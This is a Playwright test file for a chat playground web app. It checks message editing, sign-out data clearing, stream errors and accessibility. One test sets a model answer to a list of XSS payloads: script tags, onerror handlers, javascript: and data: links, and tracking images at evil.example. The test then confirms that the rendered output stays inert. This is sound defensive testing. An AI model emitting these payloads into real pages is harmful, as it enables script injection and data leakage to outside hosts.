// @engine sqlite
/** The playground in a browser: conversations with a model, hostile answers, long ones, and what the browser keeps. */
import { beforeEach, expect, test } from 'bun:test'
import type { Page } from 'playwright'
import { Role } from '../../src/contracts/account.ts'
import { listen } from '../support/app/app.ts'
import {
  accessibilityViolations,
  looksInTier,
  overflows,
  PAGE_TEST_TIMEOUT_MS,
  problemsOf,
  visit,
} from '../support/browser/browser.ts'
import { sendMessage } from '../support/browser/walks.ts'
import { MODEL, RICH } from '../support/people/client.ts'
import { type Person, visitor } from '../support/people/person.ts'
import { chat, errorInside, gate, inTurn, refuses, streams, truncatesAfter } from '../support/upstream/chat-scripts.ts'
import { answers as responds } from '../support/upstream/endpoint-scripts.ts'
import { errorBody } from '../support/upstream/openai.ts'
import { channelTo, startUpstream } from '../support/upstream/served-channel.ts'

const SECOND = 'gpt-4o-mini'
const upstream = await startUpstream()
await channelTo(upstream, { models: `${MODEL},${SECOND}` })
const scripts = (script: Parameters<typeof upstream.scripts>[1], model = SECOND) => upstream.scripts(model, script)
beforeEach(() => scripts(chat({ text: 'Hello' })))

const rich = () => visitor(Role.user, RICH)
const opened = async (person: Person, look = {}) => {
  const page = await visit(person, '/playground', look)
  await page.locator('.composer textarea').click()
  return page
}

const answers = (page: Page) => page.locator('.answer-text .markdown').allTextContents()
const asked = () => (upstream.journal.at(-1)!.body as { messages: { content: string }[] }).messages
const contents = () => asked().map(({ content }) => content)
const databases = (page: Page) =>
  page.evaluate(async () =>
    (await indexedDB.databases()).map(({ name }) => name).filter(name => name?.includes('play')),
  )

test(
  'messages are sent, answered again, edited, deleted, billed, kept, and forgotten at the sign-out',
  async () => {
    const ann = await rich()
    scripts(inTurn(chat({ text: 'First **answer**' }), chat({ text: 'Second answer' }), chat({ text: 'Third answer' })))
    const page = await opened(ann)
    await sendMessage(page, 'What is one?')
    await page.getByText('First answer').waitFor()
    expect(await page.locator('.markdown strong').textContent()).toBe('answer')
    await page.getByRole('button', { name: 'Answer again' }).click()
    await page.getByText('Second answer').waitFor()
    expect(await answers(page)).toEqual(['Second answer'])
    const line = page.locator('button.answer-line')
    await line.waitFor()
    expect(await line.textContent()).toStartWith(SECOND)
    expect(await line.getAttribute('aria-expanded')).toBe('false')
    await line.click()
    const receipt = page.getByRole('complementary', { name: 'Settings' }).getByRole('article', { name: 'Receipt' })
    const [entry] = (await ann.get('/api/log/self')).data.items
    expect(await receipt.textContent()).toContain(entry.request_id)
    await page.getByRole('button', { name: 'Edit message' }).click()
    await page.locator('.message-form textarea').fill('What is two?')
    await page.getByRole('button', { name: 'Send again' }).click()
    await page.getByText('Third answer').waitFor()
    expect(contents()).toEqual(['What is two?'])
    await sendMessage(page, 'And three?')
    await page.locator('.answer-text .markdown').nth(1).getByText('Third answer').waitFor()
    expect(contents()).toEqual(['What is two?', 'Third answer', 'And three?'])
    await page.getByRole('button', { name: 'Clear context' }).click()
    await page.getByText('Context cleared').waitFor()
    await page.getByRole('button', { name: 'Delete message' }).first().click()
    await page.reload()
    await page.getByRole('button', { name: 'Conversations' }).click()
    const list = page.getByRole('dialog')
    await list.getByRole('button', { name: 'Rename What is one?' }).click()
    await list.getByLabel('Name of the conversation').fill('Numbers')
    await page.keyboard.press('Enter')
    await list.getByRole('button', { name: 'Delete Numbers' }).click()
    await list.getByRole('button', { name: 'Undo' }).click()
    await list.getByRole('button', { name: 'Numbers 1 message' }).click()
    expect(await page.locator('.question-text').allTextContents()).toEqual(['And three?'])
    expect(await databases(page)).toEqual([`tollgate-playground-${ann.id}`])
    expect(JSON.stringify(await page.evaluate(() => ({ ...localStorage })))).not.toContain('sk-')
    await page.getByRole('button', { name: /^Account/ }).click()
    await page.getByRole('button', { name: 'Sign out' }).click()
    await page.waitForURL('**/login**')
    await page.waitForFunction(async () => !(await indexedDB.databases()).some(({ name }) => name?.includes('play')))
    expect(problemsOf(page)).toEqual([])
  },
  PAGE_TEST_TIMEOUT_MS,
)

test(
  'an answer is stopped, and what it had stays; nothing of it is in the browser once another user is signed in',
  async () => {
    const [ann, ben] = [await rich(), await rich()]
    const { script, open } = gate()
    scripts(script)
    const page = await opened(ann)
    await sendMessage(page, 'Count')
    await page.getByText('one').waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('Stopped.').waitFor()
    expect((await answers(page))[0]).toStartWith('one')
    open()
    await page.getByRole('button', { name: 'Send', exact: true }).waitFor()
    const [name, ...value] = ben.cookie.split('=')
    await page.context().addCookies([{ name: name!, value: value.join('='), url: listen() }])
    await page.goto('/app/me')
    await page.waitForFunction(async () => !(await indexedDB.databases()).some(({ name }) => name?.includes('play')))
    await page.goto('/playground')
    await page.getByRole('button', { name: 'Conversations' }).click()
    await page.getByText('No conversations yet.').waitFor()
    expect(await page.getByText('Count').count()).toBe(0)
  },
  PAGE_TEST_TIMEOUT_MS,
)

const RUN = 'window.ran=1'
const hostile = [
  `<script>${RUN}</script> <img src=x onerror="${RUN}"> <svg onload="${RUN}"></svg>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `[a](javascript:${RUN}) [b](data:text/html,<script>${RUN}</script>) [c](/logout) [d](java&Tab;script:${RUN})`,
  '![tracker](https://evil.example/pixel.png?q=secret) <img src="https://evil.example/p.png">',
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  '```python\nprint("coloured")\n```',
  '$$\\href{javascript:alert(1)}{x} + \\includegraphics{https://evil.example/x.png}$$',
  'And $a^2 + b^2$ is a formula.',
].join('\n\n')

/** What runs, loads or leads elsewhere in answers and errors. */
const found = (page: Page) =>
  page.evaluate(() => {
    const inside = [...document.querySelectorAll(':is(.markdown, .answer-error) *')]
    return {
      ran: 'ran' in window,
      elements: inside.filter(element => element.matches('script, iframe, img, form, svg:not(.icon)')).length,
      handlers: inside.flatMap(element => element.getAttributeNames()).filter(name => name.startsWith('on')),
      links: inside.filter(element => element.matches('[href]')).length,
    }
  })

test(
  'a hostile answer or error stays inert and asks for nothing from other sites, also after a reload; thoughts are folded',
  async () => {
    const delta = (delta: object, finish_reason: string | null = null) =>
      `data: ${JSON.stringify({ id: 'x', object: 'chat.completion.chunk', created: 1, model: SECOND, choices: [{ index: 0, delta, finish_reason }] })}\n\n`
    const events = [delta({ reasoning_content: `Hm <img src=x onerror="${RUN}">` }), delta({ content: hostile })]
    scripts(streams([...events, delta({}, 'stop'), 'data: [DONE]\n\n']))
    const page = await opened(await rich())
    const foreign: string[] = []
    page.on('request', request => {
      if (!request.url().startsWith(listen())) foreign.push(request.url())
    })
    await sendMessage(page, 'Attack')
    await page.locator('.markdown math').last().waitFor({ state: 'attached' })
    await page.locator('.hl-string').first().waitFor()
    await page.getByText('Thoughts').click()
    await page.locator('.thinking .markdown').getByText('Hm').waitFor()
    const inert = { ran: false, elements: 0, handlers: [], links: 0 }
    expect([await found(page), foreign]).toEqual([inert, []])
    scripts(responds(400, errorBody(`No: ${hostile.split('\n\n', 3).join(' ')} ![x](https://evil.example/e.png)`, 'x')))
    await page.locator('button.answer-line').waitFor()
    await sendMessage(page, 'Refuse')
    const error = page.locator('.answer-error').getByText('onerror=')
    await error.waitFor()
    expect([await found(page), foreign]).toEqual([inert, []])
    await page.reload()
    await page.getByRole('button', { name: 'Conversations' }).click()
    await page
      .getByRole('dialog')
      .getByRole('button', { name: /^Attack/ })
      .click()
    await error.waitFor()
    await page.locator('.markdown math').last().waitFor({ state: 'attached' })
    expect([await found(page), foreign]).toEqual([inert, []])
    await page.route('https://evil.example/**', route => route.fulfill({ status: 204 }))
    await page.getByRole('button', { name: 'Load' }).click()
    await page.locator('.markdown img').waitFor({ state: 'attached' })
    expect(foreign).toEqual(['https://evil.example/pixel.png?q=secret'])
  },
  PAGE_TEST_TIMEOUT_MS,
)

test(
  'a refusal, a broken stream, an error in it, an empty answer and a lost connection are answers that can be tried again',
  async () => {
    const ann = await rich()
    const page = await opened(ann)
    const again = async (script: Parameters<typeof upstream.scripts>[1]) => {
      scripts(script)
      await page.getByRole('button', { name: 'Answer again' }).click()
    }
    scripts(refuses(400))
    await sendMessage(page, 'Refuse')
    const alert = page.locator('.answer-error')
    await alert.getByText("Invalid type for 'temperature'.").waitFor()
    expect(await alert.getByRole('button').textContent()).toStartWith('req_')
    await again(truncatesAfter(4))
    await alert.getByText('The upstream closed the connection in the middle').waitFor()
    expect((await answers(page))[0]).toStartWith('one two')
    await again(errorInside())
    await alert.getByText('The upstream is out of order').waitFor()
    const half = { contentType: 'text/event-stream', body: 'data: {"choices":[{"delta":{"content":"half"}}]}\n\n' }
    await page.route('**/pg/chat/completions', route => route.fulfill(half), { times: 1 })
    await again(chat())
    await alert.getByText('The answer broke off.').waitFor()
    expect(await answers(page)).toEqual(['half'])
    await again(chat({ text: '' }))
    await page.getByText('The answer is empty.').waitFor()
    expect(await alert.count()).toBe(0)
    await page.context().setOffline(true)
    await again(chat({ text: 'All is well' }))
    await alert.getByText('Unable to connect to server').waitFor()
    await page.context().setOffline(false)
    await page.getByRole('button', { name: 'Answer again' }).click()
    await page.locator('button.answer-line').waitFor()
    expect([await alert.count(), await answers(page)]).toEqual([0, ['All is well']])
    await page.context().clearCookies()
    await sendMessage(page, 'Still there?')
    await alert.getByText('Not logged in or login expired, please log in again').waitFor()
    expect(await alert.getByRole('link', { name: 'Sign in' }).getAttribute('href')).toContain('returnTo=%2Fplayground')
  },
  PAGE_TEST_TIMEOUT_MS,
)

const TOKENS = 20_000

test(
  'an answer of 20,000 tokens arrives whole while the page takes input',
  async () => {
    const words = Array.from({ length: TOKENS }, (_, index) => {
      if (index % 400 === 399) return '\n```js\nlet a = 1\n```\n\n'
      return index % 50 === 49 ? `word${index}\n\n` : `word${index} `
    })
    scripts(chat({ text: words.join(''), chunks: TOKENS }))
    const page = await opened(await rich())
    await sendMessage(page, 'Write a book')
    await page.getByText('word1 ').first().waitFor()
    await page.keyboard.type('still typing')
    expect(await page.locator('.composer textarea').inputValue()).toBe('still typing')
    await page.locator('button.answer-line').waitFor()
    expect(await page.getByText(`word${TOKENS - 2}`).count()).toBe(1)
    expect(await page.locator('.markdown .code-block').count()).toBe(TOKENS / 400)
    expect(problemsOf(page)).toEqual([])
  },
  PAGE_TEST_TIMEOUT_MS,
)

test(
  'two models answer side by side, with pictures, and the page passes axe on every screen',
  async () => {
    const ann = await rich()
    scripts(chat({ text: 'From **mini**\n\n- one\n\n```js\nlet a = 1\n```\n\n| a |\n|---|\n| b |' }))
    scripts(chat({ text: 'From the other' }), MODEL)
    for (const look of looksInTier([{}, { screen: 'phone', theme: 'gate-night', language: 'zh' }] as const)) {
      const page = await opened(ann, look)
      const isPhone = 'screen' in look
      const file = (mimeType: string, bytes: number) => ({ name: 'x', mimeType, buffer: Buffer.alloc(bytes, 1) })
      const input = page.locator('.composer input[type=file]')
      await input.setInputFiles([file('image/svg+xml', 9)])
      await page.getByRole('alert').getByText(/WebP/).waitFor()
      await input.setInputFiles([file('image/png', 6 * 1024 * 1024)])
      await page.getByRole('alert').getByText(/5 MB/).waitFor()
      await input.setInputFiles([file('image/png', 9)])
      await page.locator('.composer .attached img').waitFor()
      if (isPhone) await page.getByRole('button', { name: '设置' }).last().click()
      const panel = isPhone ? page.getByRole('dialog') : page.getByRole('complementary', { name: 'Settings' })
      await panel.getByRole('checkbox').check()
      expect(await panel.getByRole('combobox').count()).toBe(3)
      if (isPhone) expect(await accessibilityViolations(page)).toEqual([])
      if (isPhone) await page.keyboard.press('Escape')
      await sendMessage(page, 'Both')
      await page.getByText('From the other').waitFor()
      await page.locator('button.answer-line').nth(1).waitFor()
      expect((await answers(page)).map(text => text.slice(0, 9))).toEqual(['From mini', 'From the '])
      const [, picture] = asked()[0]!.content as unknown as { image_url: { url: string } }[]
      expect(picture!.image_url.url).toStartWith('data:image/png;base64,')
      expect({ look, violations: await accessibilityViolations(page) }).toEqual({ look, violations: [] })
      expect(await overflows(page)).toBe(false)
    }
  },
  PAGE_TEST_TIMEOUT_MS,
)
